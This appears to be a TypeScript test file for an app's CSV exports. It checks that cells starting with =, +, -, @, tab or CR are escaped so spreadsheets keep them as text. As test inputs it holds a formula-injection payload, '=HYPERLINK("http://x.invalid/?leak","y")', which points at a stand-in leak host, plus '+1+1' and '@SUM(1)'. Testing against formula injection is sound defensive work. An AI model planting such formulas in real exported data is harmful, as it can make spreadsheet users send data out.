import type { Polygon } from 'geojson';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '../../scripts/report/format';
import { runAnalysis } from '../../src/analysis/analysis_run';
import {
  DEFAULT_COVERAGE_PARAMETERS,
  coverageReport,
  prepareCoverage,
} from '../../src/analysis/coverage_report';
import { createFacilityIndex } from '../../src/analysis/facility_index';
import { inspectPoint } from '../../src/analysis/inspection';
import { sinusoidalProjection } from '../../src/analysis/local_projection';
import { ScenarioCache, runScenario } from '../../src/analysis/scenario_run';
import { applyStatusOverrides, projectsCsv } from '../../src/data/project_status';
import type { AppFeature } from '../../src/data/schema';
import { analysisTableCsv } from '../../src/export/analysis_export';
import { csvCellText, csvDocument, parseCsvDocument } from '../../src/export/csv';
import { inspectionCsv } from '../../src/export/inspection_export';
import { parseCsvTable } from '../../src/import/csv';
import { ORIGIN, collection, createPoint, createRectangle } from '../analysis/fixtures';

const HYPERLINK = '=HYPERLINK("http://x.invalid/?leak","y")';
const SCENARIO_NAME = `x,${HYPERLINK},+1+1,@SUM(1)`;

/**
 * Every cell as a spreadsheet would split the file (papaparse, as an independent reader here):
 * none may start a formula — `=`, `+`, `-`, `@`, tab or CR — unless it is a plain number.
 */
function liveFormulaCells(text: string): string[] {
  const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

const context = {
  generatedAt: '2026-11-29T00:00:00.000Z',
  sources: { osm: { title: 'OSM', origin: '', licence: 'ODbL', attribution: 'OSM' } },
  sourceKeys: ['osm'],
};

describe('the CSV writer', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['-12.5', '-12.5'],
    [-3, '-3'],
    ['a=1', 'a=1'],
    ['回龙观', '回龙观'],
    [null, ''],
  ])('writes %j as %j', (value, text) => {
    expect(csvCellText(value)).toBe(text);
  });

  it('keeps quoted line breaks, quotes and commas in one cell, read back by papaparse', () => {
    const note = 'line one\nline two, "quoted"\r\nthree';
    const text = csvDocument(
      ['meta, with comma'],
      ['name', 'note'],
      [
        ['a', note],
        ['b', ''],
      ],
    );
    const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(data).toEqual([['# meta, with comma'], ['name', 'note'], ['a', note], ['b', '']]);
    expect(parseCsvDocument(text)).toEqual({
      metadata: ['meta, with comma'],
      header: ['name', 'note'],
      rows: [
        ['a', note],
        ['b', ''],
      ],
    });
    // The app's own CSV import reads the same file as two data rows.
    const table = parseCsvTable(
      csvDocument(
        [],
        ['name', 'note'],
        [
          ['a', note],
          ['b', ''],
        ],
      ),
    );
    expect(table!.rows).toEqual([
      ['a', note],
      ['b', ''],
    ]);
  });
});

describe('a formula name in every CSV export stays text', () => {
  const inputs = {
    subdistricts: collection([createRectangle(-5000, -5000, 5000, 5000, { name: HYPERLINK })]),
    residential: collection([
      createRectangle(-400, -100, -200, 100, { source: 'osm', subdistrict: HYPERLINK }),
    ]),
    parks: collection([
      createRectangle(-300, 200, -100, 400, { counts_as_park: true, area_m2: 40_000 }),
    ]),
    schools: collection([]),
    carParks: null,
    knownExtents: {},
  };

  it('the analysis table, its # line naming a scenario with commas and formulas', () => {
    const prepared = prepareCoverage(inputs, 1);
    const result = runAnalysis(prepared, inputs, {
      tab: 'parks',
      parameters: DEFAULT_COVERAGE_PARAMETERS,
      schoolLevel: 'primary',
      schoolView: 'coverage',
    });
    const scenario = {
      id: 's1',
      name: SCENARIO_NAME,
      createdAt: '2026-11-29T00:00:00.000Z',
      updatedAt: '2026-11-29T00:00:00.000Z',
      edits: [
        {
          id: 'e1',
          type: 'add-park' as const,
          name: HYPERLINK,
          geometry: createRectangle(1900, 200, 2100, 400).geometry as Polygon,
        },
      ],
    };
    const outcome = runScenario(prepared, inputs, result.request, scenario, new ScenarioCache());
    const csv = analysisTableCsv(
      { ...result, scenarios: [{ scenarioId: 's1', scenarioName: SCENARIO_NAME, ...outcome }] },
      {},
      context,
    );
    expect(liveFormulaCells(csv)).toEqual([]);
    const { metadata, rows } = parseCsvDocument(csv);
    // The scenario's whole name stays in its one metadata cell.
    expect(metadata).toContain(`scenario 1: ${SCENARIO_NAME} (columns scenario1_*)`);
    expect(rows[0]![0]).toBe(`'${HYPERLINK}`);
  });

  it('the inspection list', () => {
    const index = createFacilityIndex(
      { healthcare: collection([createPoint(0, 300, { name: HYPERLINK, id: '@h1' })]) },
      sinusoidalProjection(ORIGIN.geometry.coordinates[0]!),
    );
    const inspection = inspectPoint(index, ORIGIN.geometry.coordinates as [number, number], 500);
    const csv = inspectionCsv(inspection, 80, context);
    expect(liveFormulaCells(csv)).toEqual([]);
    expect(parseCsvDocument(csv).rows[0]!.slice(2, 4)).toEqual([`'${HYPERLINK}`, "'@h1"]);
  });

  it('the projects list, with a status note', () => {
    const project = {
      type: 'Feature',
      geometry: { type: 'Point', coordinates: [116.33, 40.07] },
      properties: {
        id: 'p1',
        name: '+1+1',
        kind: 'school',
        task: 4,
        status: 'planned',
        subdistrict: null,
        source: 'action-plan',
        source_crs: 'WGS-84',
        accuracy: 'surveyed',
      },
    } as AppFeature;
    const [edited] = applyStatusOverrides([project], {
      p1: { status: 'completed', date: '2024-12-30', note: HYPERLINK },
    });
    const csv = projectsCsv([edited!]);
    expect(liveFormulaCells(csv)).toEqual([]);
    const { header, rows } = parseCsvDocument(csv);
    expect(rows[0]![header.indexOf('status_note')]).toBe(`'${HYPERLINK}`);
    expect(rows[0]![header.indexOf('name')]).toBe("'+1+1");
  });

  it("the report's --format csv", () => {
    const rows = coverageReport(inputs, DEFAULT_COVERAGE_PARAMETERS, prepareCoverage(inputs, 1));
    const csv = formatCsv(rows);
    expect(liveFormulaCells(csv)).toEqual([]);
    expect(parseCsvDocument(csv).rows[0]![0]).toBe(`'${HYPERLINK}`);
  });
});
